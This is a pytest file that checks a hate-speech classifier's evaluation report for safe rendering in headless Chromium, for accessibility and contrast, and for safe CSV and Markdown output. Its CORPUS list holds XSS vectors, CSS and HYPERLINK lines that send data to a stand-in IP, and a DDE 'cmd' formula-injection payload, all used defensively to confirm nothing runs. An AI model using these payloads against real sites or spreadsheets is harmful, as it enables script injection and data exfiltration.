"""eval/eval.py's report.html in headless Chromium, made from the most hostile posts we know.

pytest tests/test_browser.py
"""

from __future__ import annotations

import csv
import itertools
import json
import os
import random
import re
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
import tiny
from tiny import load_script

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
LABELS = ["<b/onclick=pwned()>fine</b>", "=bad|$x$\u202e`*"]
# What runs code, fetches something, breaks out of where it stands, or shows as other than it is.
CORPUS = [
    "<script>pwned()</script>",
    "</script><script>pwned()</script>",
    "<ScRiPt\n>pwned()</sCrIpT >",
    "<img src=x onerror=pwned()>",
    '"><svg onload=pwned()>',
    "<svg><script>pwned()</script></svg>",
    "<svg><image href='http://203.0.113.1/x.svg'/></svg>",
    "</text></svg><img src=x onerror=pwned()>",
    "<!-- --><iframe srcdoc='<script>parent.pwned()</script>'>",
    "--> <b>out of the comment</b>",
    "]]> <b>out of CDATA</b>",
    "<a href='javascript:pwned()'>x</a>",
    "[x](javascript:pwned())",
    "![pixel](http://203.0.113.1/x.png)",
    "[link](http://203.0.113.1) <http://203.0.113.1> http://203.0.113.1 www.example.org",
    "[ref]: http://203.0.113.1",
    "</p></details></td></table></main><h1>mine</h1>",
    "</title><script>pwned()</script>",
    "</style><script>pwned()</script>",
    "<style>@import 'http://203.0.113.1/x.css'; body { display: none }</style>",
    "<p style='background: url(http://203.0.113.1/x)'>x</p>",
    "expression(pwned()) } body { background: url(http://203.0.113.1/y) } .p0-1 {",
    "<meta http-equiv=refresh content='0;url=http://203.0.113.1'>",
    "<base href='http://203.0.113.1/'><link rel=stylesheet href=/x.css>",
    "<form action='http://203.0.113.1'><input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()><summary>x</summary></details>",
    "{{ 7 * 7 }}{% for x in y %}{# z #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "$\\frac{1}{0}$ and $x$",
    "$\\undefined{",
    "\\u202e \\1 \\g<0> %s {0}",
    '=HYPERLINK("http://203.0.113.1?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    " =1+1",
    "\t=1",
    "\r=1",
    "\uff1d1+1",
    '"=1",=1\n=1',
    "a|b\nc`d` | e \\| f",
    "\u202ereversed\u202c \u2066isolated\u2069",
    "zero\u200bwidth\ufeff\u00ad",
    "bell\x07 escape\x1b[31m null\x00 \x9b31m \x7f",
    "\u2028line\u2029paragraph\x85next",
    "w" * 4000,
    "&lt;script&gt; &amp; &#60;b&#62;",
    "# heading\n- item\n\n---\n> quote",
    "_nolegend_",
    "<!-- evaluation: end -->",
    "",
]


@pytest.fixture(scope="module")
def evaluate() -> ModuleType:
    return load_script("eval/eval.py")


@pytest.fixture(scope="module")
def hostile(evaluate: ModuleType, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of a report where texts, ids, groups, strategies, columns, labels are hostile."""
    made, folder, rows = random.Random(0), tmp_path_factory.mktemp("hostile"), []
    column, strategies = "<i>=1</i>", [CORPUS[0], CORPUS[28], "_nolegend_", CORPUS[31]]
    for strategy in strategies:
        for number, text in enumerate([*CORPUS, *CORPUS[:30]]):
            label = number % 2
            p = min(1.0, max(0.0, made.gauss(0.35 + 0.3 * label, 0.3)))
            groups = [text] if text and number % 3 else []
            rows.append(
                {
                    "id": f"{text}{number}" if number % 2 else text,
                    "text": text,
                    "label": LABELS[label],
                    "score": p,
                    "prediction": CORPUS[0] if number % 11 == 0 else LABELS[p >= 0.5],
                    "target_groups": groups + ([CORPUS[4]] if number % 2 else [CORPUS[40]]),
                    "functionality": text or "none",
                    "target_ident": CORPUS[number % 5],
                    "case_id": text,
                    "ref_case_id": "",
                    "templ_id": text,
                    "ref_templ_id": "",
                    "direction": text,
                    "focus_words": "",
                    "focus_lemma": "",
                    "source": CORPUS[number % 7],
                    column: CORPUS[number % 6],
                    "strategy": strategy,
                }
            )
    file = tiny.write_jsonl(folder / "rows.jsonl", rows)
    run(evaluate, folder / "out", file, "--labels", *LABELS, "--slice_by", column)
    return folder / "out"


@pytest.fixture(scope="module")
def ordinary(evaluate: ModuleType, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of a report as it usually looks, with all that a file of predictions can give."""
    made, folder, rows = random.Random(0), tmp_path_factory.mktemp("ordinary"), []
    for number in range(300):
        label = number % 3 // 2
        p = min(1.0, max(0.0, made.gauss(0.35 + 0.3 * label, 0.2)))
        rows.append(
            {
                "text": f"post {number} " * made.randint(1, 30),
                "label": ["normal", "hate"][label],
                "p_hate": p,
                "target_groups": made.sample(tiny.IDENTITIES, made.choice([1, 1, 2])),
                "functionality": f"functionality_{number % 12}",
                "target_ident": tiny.IDENTITIES[number % 7],
                "case_id": number,
                "ref_case_id": number - 1 if number % 2 else "",
                "templ_id": number % 40,
                "ref_templ_id": "",
                "direction": "general",
                "focus_words": "",
                "focus_lemma": "",
                "label_multiclass": ["normal", "hate"][label] if number % 5 else "offensive",
            }
        )
    for row in rows:
        if row["label_multiclass"] == "offensive":
            row["label"] = "normal"
    file = tiny.write_jsonl(folder / "rows.jsonl", rows)
    gates = ("--require", "f1>=0.1", "--prevalence", "0.01")
    run(evaluate, folder / "out", file, *gates)
    return folder / "out"


def run(evaluate: ModuleType, out: Path, file: Path, *argv: str) -> None:
    """Report a file with its posts' texts, from few resamples."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(evaluate, "RESAMPLES", 100)
        for name in [*os.environ]:
            if name.startswith("HSD_"):
                patch.delenv(name)
        words = ["--predictions", file, "--output_dir", out, "--log_text", "--report_to", "none"]
        evaluate.main([str(word) for word in (*words, *argv)])


# --- files without a browser -----------------------------------------------------------------


def is_number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell) is not None


def test_no_cell_is_a_formula(hostile: Path) -> None:
    files = sorted(hostile.glob("*.csv"))
    assert len(files) == 4
    for file in files:
        with file.open(encoding="utf-8", newline="") as stream:
            rows = list(csv.reader(stream))
        assert len({len(row) for row in rows}) == 1
        for row in rows:
            for cell in row:
                signs = (
                    "=",
                    "+",
                    "-",
                    "@",
                    "\t",
                    "\r",
                    "\n",
                    "\uff1d",
                    "\uff0b",
                    "\uff0d",
                    "\uff20",
                )
                assert is_number(cell) or not cell.lstrip(" ").startswith(signs), (file.name, cell)


def test_text_files_show_no_control_character_and_json_is_strict(hostile: Path) -> None:
    for name in ("report.html", "report.md", "evaluation_report.txt"):
        text = (hostile / name).read_text(encoding="utf-8")
        assert not {char for char in text if char != "\n" and not char.isprintable()}, name

    def no_constant(name: str) -> None:
        raise AssertionError(name)

    for name in ("metrics.json", "contract.json"):
        json.loads((hostile / name).read_text(encoding="utf-8"), parse_constant=no_constant)


def test_markdown_holds_no_link_image_or_tag(hostile: Path) -> None:
    text = (hostile / "report.md").read_text(encoding="utf-8")
    assert "<" not in text and not re.search(r"(?<!\\)\]\(|(?<!\\)!\[|://|(?<![\w.])www\.", text)
    assert not re.search(r"(?<!\\)\$|^\s{0,3}\[[^]]*\]:", text, re.MULTILINE)
    markdown = pytest.importorskip("markdown_it", reason="renders Markdown")
    tokens = markdown.MarkdownIt("gfm-like", {"linkify": False, "html": True}).parse(text)
    inner = [one for token in tokens for one in [token, *(token.children or [])]]
    kinds = {token.type for token in inner}
    assert not kinds & {"link_open", "image", "html_inline", "html_block", "code_inline", "fence"}
    assert {"table_open", "heading_open"} <= kinds
    # Every row of a table has as many cells as its header.
    cells = 0
    for token in tokens:
        if token.type == "thead_open":
            width, cells = 0, 0
        elif token.type == "th_open":
            width += 1
        elif token.type == "tr_close":
            assert cells in (0, width)
            cells = 0
        elif token.type == "td_open":
            cells += 1


# --- Chromium --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if CHROMIUM is None:
        pytest.skip("there is no chromium; Debian's package brings it")
    api = pytest.importorskip("playwright.sync_api", reason="drives Chromium")
    with api.sync_playwright() as driver:
        # In a container there is no sandbox for root.
        options = ["--no-sandbox"] if os.geteuid() == 0 else []
        chromium = driver.chromium.launch(executable_path=CHROMIUM, args=options)
        yield chromium
        chromium.close()


@pytest.fixture
def visit(browser: Any) -> Iterator[Callable[..., Any]]:
    """Open a report; `page.seen` are the things that a report may not do."""
    opened = []

    def open_page(folder: Path, width: int = 1280, **options: Any) -> Any:
        context = browser.new_context(viewport={"width": width, "height": 900}, **options)
        opened.append(context)
        page, url, seen = context.new_page(), (folder / "report.html").as_uri(), []
        page.on("dialog", lambda dialog: (seen.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda one: one.url == url or seen.append(one.url))
        page.on("console", lambda one: seen.append(one.text))
        page.on("pageerror", lambda error: seen.append(str(error)))
        context.on("page", lambda other: seen.append(other.url))
        page.add_init_script("window.ran = 0; window.pwned = () => { window.ran += 1 }")
        page.goto(url)
        page.seen = seen
        return page

    yield open_page
    for context in opened:
        context.close()


@pytest.mark.parametrize("bypass_csp", [False, True], ids=["policy", "no_policy"])
def test_hostile_text_stays_text(visit: Any, hostile: Path, bypass_csp: bool) -> None:
    page = visit(hostile, bypass_csp=bypass_csp)
    page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true })")
    page.mouse.move(200, 200)
    page.wait_for_timeout(200)
    assert page.seen == [] and page.evaluate("window.ran") == 0
    tags = page.evaluate("[...new Set([...document.querySelectorAll('*')].map(e => e.localName))]")
    known = {"html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "h3", "p", "ul"}
    known |= {
        "li",
        "div",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "figure",
        "details",
        "summary",
    }
    known |= {"svg", "g", "defs", "clipPath", "path", "rect", "use", "text", "tspan"}
    assert set(tags) <= known, set(tags) - known
    assert page.evaluate("document.scripts.length + document.links.length") == 0
    attributes = page.evaluate(
        "[...document.querySelectorAll('*')].flatMap(e => [...e.attributes].map(a => "
        "[e.localName, a.name, a.value]))"
    )
    for tag, name, value in attributes:
        assert not name.startswith("on") and name not in ("src", "action", "srcdoc", "style"), name
        assert not name.endswith("href") or value.startswith("#")
        assert "url(" not in value or re.fullmatch(r"url\(#p\d+-\w+\)", value), (tag, name, value)
    assert page.evaluate("document.querySelectorAll('h1').length") == 1
    styles = page.evaluate("[...document.querySelectorAll('style')].map(e => e.textContent).join()")
    assert not re.search(r"url\(|@import|expression", styles)
    body = page.evaluate("document.body.textContent")
    assert "{{ 7 * 7 }}" in body and "=HYPERLINK" in body
    # What has an effect on the direction or the shape of text is shown as what it is.
    assert "\\u202e" in body and "\\x1b" in body and "\u202e" not in body
    assert "$\\frac{1}{0}$" in page.evaluate(
        "[...document.querySelectorAll('svg text')].map(e => e.textContent).join()"
    )


def test_posts_are_hidden_until_they_are_opened(
    visit: Any, ordinary: Path, hostile: Path, evaluate: ModuleType
) -> None:
    for folder in (ordinary, hostile):
        page = visit(folder)
        count = page.locator("details").count()
        assert count > 10 and page.locator("details[open]").count() == 0
        shown = (
            "[...document.querySelectorAll('details p')].filter(p => p.checkVisibility()).length"
        )
        assert page.evaluate(shown) == 0
        page.locator("summary").first.focus()
        page.keyboard.press("Enter")
        assert page.evaluate(shown) == 1
        with (folder / "errors.csv").open(encoding="utf-8", newline="") as stream:
            first = next(csv.DictReader(stream))["text"]
        text = page.locator("details p").first.evaluate("p => p.textContent")
        assert text == evaluate.visible(evaluate.plain_cell(first), 5000)


@pytest.mark.parametrize("width", [320, 390, 768, 1280])
def test_nothing_runs_over_the_page(visit: Any, ordinary: Path, hostile: Path, width: int) -> None:
    for folder in (ordinary, hostile):
        page = visit(folder, width)
        page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true })")
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        # What is wider than the page scrolls in a box of its own that the keyboard reaches.
        wide = page.evaluate(
            "[...document.querySelectorAll('main *')].filter(e => e.scrollWidth > e.clientWidth + 1"
            " && ['auto', 'scroll'].includes(getComputedStyle(e).overflowX))"
            ".map(e => [e.localName, e.className, e.tabIndex])"
        )
        assert all(index == 0 for _, _, index in wide), wide
        out = page.evaluate(
            "[...document.querySelectorAll('main *')].filter(e => !e.closest('.scroll, figure')"
            " && e.getBoundingClientRect().right > innerWidth + 1).map(e => e.outerHTML)"
        )
        assert not out, out[0][:300]


def test_the_keyboard_reaches_everything(visit: Any, ordinary: Path) -> None:
    page = visit(ordinary, 390)
    page.evaluate(
        "[...document.querySelectorAll('summary, [tabindex], a, button')]"
        ".forEach((e, place) => { e.place = place })"
    )
    count = page.locator("summary, [tabindex], a, button").count()
    reached = []
    for _ in range(count):
        page.keyboard.press("Tab")
        reached.append(page.evaluate("document.activeElement.place"))
    assert reached == list(range(count))
    outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
    assert outline == "solid"


# The least contrast that each text has with what it stands on: WCAG 2.2, 1.4.3 and 1.4.11.
CONTRAST = """() => {
  const parse = colour => {
    const [r, g, b, a] = colour.match(/[\\d.]+/g).map(Number);
    return { rgb: [r, g, b], a: a === undefined ? 1 : a };
  };
  const over = (top, alpha, under) => top.map((part, i) => part * alpha + under[i] * (1 - alpha));
  const light = rgb => {
    const [r, g, b] = rgb.map(part => part / 255).map(
      part => part <= 0.04045 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4);
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const found = [];
  const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walk.nextNode()) {
    const element = walk.currentNode.parentElement;
    if (!walk.currentNode.data.trim() || element.localName === 'style') continue;
    if (!element.checkVisibility({ contentVisibilityAuto: true })) continue;
    const box = element.getBoundingClientRect();
    const inside = element instanceof SVGElement;
    const layers = [];
    if (inside) {
      const at = document.elementsFromPoint(box.x + box.width / 2, box.y + box.height / 2);
      for (const under of at) {
        if (!(under instanceof SVGGeometryElement) || under.closest('defs')) continue;
        const style = getComputedStyle(under);
        if (style.fill === 'none') continue;
        const fill = parse(style.fill);
        layers.push([fill.rgb, fill.a * style.fillOpacity * style.opacity]);
      }
    }
    for (let up = element; up; up = up.parentElement) {
      const { rgb, a } = parse(getComputedStyle(up).backgroundColor);
      if (a) layers.push([rgb, a]);
    }
    const ground = layers.reverse().reduce((under, [rgb, a]) => over(rgb, a, under),
                                           [255, 255, 255]);
    const style = getComputedStyle(element);
    const ink = parse(inside ? style.fill : style.color);
    const alpha = ink.a * (inside ? style.fillOpacity : 1) * style.opacity;
    const [a, b] = [light(over(ink.rgb, alpha, ground)), light(ground)];
    found.push([(Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05), inside,
                walk.currentNode.data.trim().slice(0, 60)]);
  }
  return found;
}"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_stands_out_from_its_ground(visit: Any, ordinary: Path, scheme: str) -> None:
    page = visit(ordinary, color_scheme=scheme)
    height = page.evaluate("document.documentElement.scrollHeight")
    # Only what is inside the window can be asked for what lies under it.
    page.set_viewport_size({"width": 1280, "height": height + 50})
    found = page.evaluate(CONTRAST)
    assert len([one for one in found if one[1]]) > 100 and len(found) > 600
    assert min(found)[0] >= 4.5, sorted(found)[:5]
    ground = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert (sum(map(int, re.findall(r"\d+", ground))) > 380) is (scheme == "light")


def test_the_page_is_well_formed(visit: Any, ordinary: Path, hostile: Path) -> None:
    for folder in (ordinary, hostile):
        page = visit(folder)
        levels = page.evaluate(
            "[...document.querySelectorAll('h1,h2,h3,h4,h5,h6')].map(e => Number(e.localName[1]))"
        )
        assert levels[0] == 1 and levels.count(1) == 1
        assert all(after - before <= 1 for before, after in itertools.pairwise(levels))
        names = page.evaluate("[...document.querySelectorAll('[id]')].map(e => e.id)")
        assert len(names) == len(set(names))
        used = page.evaluate(
            "[...document.querySelectorAll('use')].map(e => e.getAttribute('xlink:href').slice(1))"
        )
        assert used and set(used) <= set(names)
        assert page.evaluate("document.documentElement.lang") == "en" and page.title()
        assert page.evaluate("document.compatMode") == "CSS1Compat"
        unnamed = "[...document.querySelectorAll('[tabindex]')].filter(e => !e.ariaLabel).length"
        assert page.evaluate(unnamed) == 0
        assert page.evaluate("[...document.querySelectorAll('svg')].every(e => e.ariaLabel)")
        assert page.evaluate("[...document.querySelectorAll('th')].every(e => e.scope)")


def test_a_print_clips_nothing(visit: Any, ordinary: Path, hostile: Path, tmp_path: Path) -> None:
    for folder in (ordinary, hostile):
        # US letter, the narrower of the usual papers, on its side, less margins of 1 cm, at 96 dpi.
        page = visit(folder, 980, color_scheme="dark")
        page.emulate_media(media="print")
        clipped = page.evaluate(
            "[...document.querySelectorAll('.scroll, figure, table, svg, p, li, h1')].filter("
            "e => e.getBoundingClientRect().right > innerWidth + 1).map(e => e.outerHTML)"
        )
        assert not clipped, clipped[0][:400]
        # Paper is white whatever the screen's scheme is.
        ground = page.evaluate("getComputedStyle(document.body).backgroundColor")
        assert ground == "rgb(255, 255, 255)"
        page.pdf(path=tmp_path / "report.pdf", prefer_css_page_size=True)
        boxes = re.findall(
            rb"/MediaBox \[0 0 ([\d.]+) ([\d.]+)\]", (tmp_path / "report.pdf").read_bytes()
        )
        assert boxes and all(float(width) > float(height) for width, height in boxes)
        if folder == ordinary:
            # No name is broken inside.
            cell = (
                "[...document.querySelectorAll('tbody th')].find(e => e.textContent == 'Muslims')"
            )
            assert page.evaluate(f"{cell}.getBoundingClientRect().height") < 40
